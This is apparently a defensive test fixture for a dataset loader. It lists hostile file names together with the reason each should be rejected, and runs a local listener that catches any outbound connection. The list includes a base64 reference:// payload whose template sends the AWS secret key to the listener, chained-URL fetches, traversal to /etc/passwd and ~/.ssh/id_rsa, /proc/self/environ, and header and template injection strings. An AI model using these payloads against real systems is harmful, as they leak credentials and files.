"""Names that a manifest could give and nobody should open, and a listener that hears whether somebody did."""

from __future__ import annotations

import base64
import json
import os
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

SECRET = "planted-secret-456"
_LEAK = "{{t.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]}}"
_OTHER_SCHEMES = """
http https ftp gopher abfs adl az sftp ssh smb git github gist wandb hf dbfs hdfs webhdfs jlab dir generic local memory
libarchive reference lazy oci gdrive dropbox oss box unix FILE HTTP S3
"""


class Listener:
    """A port of this machine that counts who connects, and keeps the first bytes."""

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._server.getsockname()[1]}"
        self.heard: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._server.accept()
            except OSError:
                return
            connection.settimeout(0.2)
            try:
                self.heard.append(connection.recv(300))
            except OSError:
                self.heard.append(b"")
            connection.close()

    def close(self) -> None:
        self._server.close()


@contextmanager
def listening() -> Iterator[Listener]:
    """A listener; what it heard is an error when the block ends."""
    listener = Listener()
    try:
        yield listener
    finally:
        listener.close()
    assert listener.heard == []


def stealing(address: str) -> str:
    """A name that holds a whole file system, which asks a stranger for a file whose name is the worker's secret."""
    refs = {"version": 1, "templates": {"t": "{{x}}"}, "refs": {"clip.wav": [f"http://{address}/leak/{_LEAK}"]}}
    told = base64.b64encode(json.dumps(refs).encode()).decode()
    return f"reference://clip.wav::data:x.json;base64,{told}"


def names(address: str, folder: Path) -> list[tuple[str, str]]:
    """Hostile names and the reason for which each is set aside.

    Args:
        address: host and port of a listener.
        folder: where pipes and sockets are made.
    """
    pipe, waiting = folder / "pipe.wav", folder / "socket.wav"
    if not pipe.exists():
        os.mkfifo(pipe)
        server = socket.socket(socket.AF_UNIX)
        here = os.getcwd()
        os.chdir(folder)  # a socket's path is at most 107 bytes
        server.bind(waiting.name)
        os.chdir(here)
        server.close()
    chained, scheme, outside = "chained name", "scheme not allowed", "name leads outside"
    control, special = "control characters in name", "not a regular file"
    return [
        (stealing(address), chained),
        *((f"{chain}::http://{address}/a.wav", chained) for chain in ("simplecache", "filecache", "blockcache", "dir")),
        (f"zip://a.wav::http://{address}/a.zip", chained),
        (f"tar://a.wav::http://{address}/a.tar", chained),
        (f"s3://bucket/a.wav::http://{address}/a", chained),
        (f"memory://a::reference://b::http://{address}/a", chained),
        *((f"{other}://{address}/a.wav", scheme) for other in _OTHER_SCHEMES.split()),
        (f"http://{address}/shard.tar#a.wav", scheme),
        (f"gs://{address}/a.wav", scheme),  # its package is not installed
        ("data:audio/wav;base64,UklGRg==", scheme),
        ("data:text/plain,hello", scheme),
        (f"x://{address}://a.wav", scheme),
        ("../../../../etc/passwd", outside),
        ("a/../../b.wav", outside),
        ("..", outside),
        ("/etc/../etc/passwd", outside),
        ("file:///etc/../etc/passwd", outside),
        ("s3://bucket/../other/a.wav", outside),
        ("s3://bucket/x/../../other.tar#a.wav", outside),
        (str(pipe), special),
        (f"file://{pipe}", special),
        (f"{pipe}.tar#a.wav", "missing"),
        (str(waiting), special),
        ("/dev/zero", special),
        ("/dev/random", special),
        ("/dev/null", special),
        ("/dev/zero.tar#a.wav", "missing"),
        ("/proc/self/environ", "empty file"),
        ("a" * 5000 + ".wav", "name too long"),
        ("a\nb.wav", control),
        ("a.wav\r\nHost: example.org", control),
        ("a\0b.wav", control),
        ("a\u2028b.wav", control),
        ("a\x1b[2Jb.wav", control),
        ("", "empty name"),
        ("{{7*7}}.wav", "template in name"),
        ("${HOME}/a.wav", "template in name"),
        (f"//{address}/share/a.wav", "missing"),
        (f"\\\\{address}\\share\\a.wav", "missing"),
        ("%2e%2e/%2e%2e/a.wav", "missing"),
        ("~/.ssh/id_rsa", "missing"),
        ("-rf", "missing"),
        ("*.wav", "missing"),
        (".", "unreadable"),
    ]
